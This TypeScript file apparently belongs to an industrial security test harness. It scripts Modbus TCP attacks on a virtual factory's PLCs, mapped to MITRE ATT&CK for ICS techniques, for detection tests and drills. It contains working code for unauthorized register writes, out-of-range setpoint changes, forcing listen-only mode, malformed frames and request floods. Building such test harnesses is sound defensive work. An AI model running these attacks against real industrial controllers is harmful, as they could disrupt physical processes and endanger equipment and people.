import { type Socket, connect } from 'node:net';
import { type ModbusRequest, createModbusTcpClient, encodeRequest } from '@yulian/protocols';

/**
 * Scripted attacks on the virtual factory's Modbus PLCs, one per MITRE ATT&CK for ICS technique the
 * security monitor must see, for detection tests and for emergency drills (演练). Each is a real
 * Modbus TCP client on the network (on loopback it connects from another 127.0.0.0/8 address, so it
 * shows as another host than the platform's gateway). Nothing here is clever: these are the
 * textbook patterns, so a monitor that misses them misses the obvious.
 */
export const attackKinds = [
  'unauthorized-command', // T0855: a write from a host that never commands this PLC
  'modify-parameter', // T0836: a setpoint written far outside its engineering range
  'brute-force-io', // T0806: one output toggled again and again, many registers written
  'remote-system-discovery', // T0846: connecting to the Modbus port of every PLC in turn
  'system-information-discovery', // T0888: read device identification, report server id, unit-id sweep
  'denial-of-service', // T0814: a request flood, malformed frames, force listen-only mode
] as const;

/** One scripted attack. */
export type AttackKind = (typeof attackKinds)[number];

/** A PLC to attack: where its Modbus TCP port answers. */
export interface AttackTarget {
  host: string;
  port: number;
  unitId?: number;
}

/** Where the attack comes from and what it hits. */
export interface AttackOptions {
  /** PLCs; single-target attacks use the first. */
  targets: readonly AttackTarget[];
  /** The local address to attack from; default 127.0.0.66 (a loopback address that is not the gateway's). */
  from?: string;
  /** A holding register that is a setpoint of the first target (default 1: the CNC's feed override, 0–150 %). */
  setpoint?: { address: number; inRange: number; outOfRange: number };
}

/** What an attack did, as seen from the attacker's side. */
export interface AttackReport {
  kind: AttackKind;
  from: string;
  requests: number;
  answered: number;
  exceptions: number;
  failures: number;
  connections: number;
}

const defaultSetpoint = { address: 1, inRange: 120, outOfRange: 900 };

/** Runs one attack to its end; failures of single requests (timeouts, refusals) are counted, not thrown. */
export async function runAttack(kind: AttackKind, options: AttackOptions): Promise<AttackReport> {
  const from = options.from ?? '127.0.0.66';
  const first = options.targets[0];
  if (!first) throw new Error('an attack needs at least one target');
  const report: AttackReport = { kind, from, requests: 0, answered: 0, exceptions: 0, failures: 0, connections: 0 };
  const setpoint = options.setpoint ?? defaultSetpoint;

  /** Requests through one client connection to `t`. */
  const session = async (t: AttackTarget, requests: ReadonlyArray<{ unit?: number; request: ModbusRequest }>): Promise<void> => {
    const client = createModbusTcpClient({ host: t.host, port: t.port, localAddress: from, timeoutMs: 1000, backoffMs: 50, maxQueue: 4096 });
    report.connections++;
    try {
      for (const r of requests) {
        report.requests++;
        try {
          await client.request(r.unit ?? t.unitId ?? 1, r.request);
          report.answered++;
        } catch (e) {
          if ((e as { code?: string }).code === 'MODBUS_EXCEPTION') report.exceptions++;
          else report.failures++;
        }
      }
    } finally {
      await client.close();
    }
  };

  switch (kind) {
    case 'unauthorized-command':
      await session(first, [{ request: { fc: 3, address: setpoint.address, count: 1 } }, { request: { fc: 6, address: setpoint.address, value: setpoint.inRange } }]);
      break;
    case 'modify-parameter':
      await session(first, [{ request: { fc: 6, address: setpoint.address, value: setpoint.outOfRange } }]);
      break;
    case 'brute-force-io': {
      const toggles = Array.from({ length: 40 }, (_, i) => ({ request: { fc: 6 as const, address: setpoint.address, value: i % 2 === 0 ? 0 : setpoint.inRange } }));
      const sweep = Array.from({ length: 20 }, (_, i) => ({ request: { fc: 16 as const, address: i % 2, values: [i % 2 === 0 ? 500 : 50] } }));
      await session(first, [...toggles, ...sweep]);
      break;
    }
    case 'remote-system-discovery':
      for (const t of options.targets) await session(t, [{ request: { fc: 3, address: 0, count: 1 } }]);
      break;
    case 'system-information-discovery': {
      const raw = await rawSession(first, from, report);
      raw.send(pdu(1, first.unitId ?? 1, [0x2b, 0x0e, 0x01, 0x00])); // FC 43 / MEI 14: read device identification, basic
      raw.send(pdu(2, first.unitId ?? 1, [0x11])); // FC 17: report server id
      report.requests += 2;
      await raw.close();
      await session(first, Array.from({ length: 30 }, (_, i) => ({ unit: i + 1, request: { fc: 3 as const, address: 0, count: 1 } })));
      break;
    }
    case 'denial-of-service': {
      const raw = await rawSession(first, from, report);
      raw.send(pdu(1, first.unitId ?? 1, [0x08, 0x00, 0x04, 0x00, 0x00])); // FC 8 sub 4: force listen-only mode
      report.requests++;
      // Frames with lying lengths and a foreign protocol id, then a flood of reads as fast as the socket takes them.
      raw.send(Buffer.from([0x00, 0x02, 0x00, 0x00, 0x00, 0xff, 0x01, 0x03]));
      raw.send(Buffer.from([0x00, 0x03, 0x12, 0x34, 0x00, 0x06, 0x01, 0x03, 0x00, 0x00, 0x00, 0x01]));
      report.requests += 2;
      await raw.close();
      const flood = await rawSession(first, from, report);
      for (let tid = 10; tid < 1010; tid++) flood.send(encodeRequest(tid, first.unitId ?? 1, { fc: 3, address: 0, count: 10 }));
      report.requests += 1000;
      await flood.close();
      break;
    }
  }
  return report;
}

/** A Modbus TCP frame around raw PDU bytes (for functions the client does not speak). */
const pdu = (tid: number, unit: number, bytes: number[]): Buffer => {
  const b = Buffer.alloc(7 + bytes.length);
  b.writeUInt16BE(tid, 0);
  b.writeUInt16BE(0, 2);
  b.writeUInt16BE(bytes.length + 1, 4);
  b.writeUInt8(unit, 6);
  Buffer.from(bytes).copy(b, 7);
  return b;
};

/** A raw socket for bytes no well-behaved client sends; `close` waits briefly for answers, then ends. */
async function rawSession(t: AttackTarget, from: string, report: AttackReport): Promise<{ send(b: Buffer): void; close(): Promise<void> }> {
  const socket: Socket = connect({ host: t.host, port: t.port, localAddress: from });
  report.connections++;
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  await new Promise<void>((resolve) => socket.once('connect', resolve).once('error', () => resolve()));
  return {
    send: (b) => void socket.write(b),
    async close() {
      await new Promise((r) => setTimeout(r, 200));
      socket.end();
      await new Promise<void>((resolve) => {
        socket.once('close', () => resolve());
        setTimeout(resolve, 1000);
      });
    },
  };
}
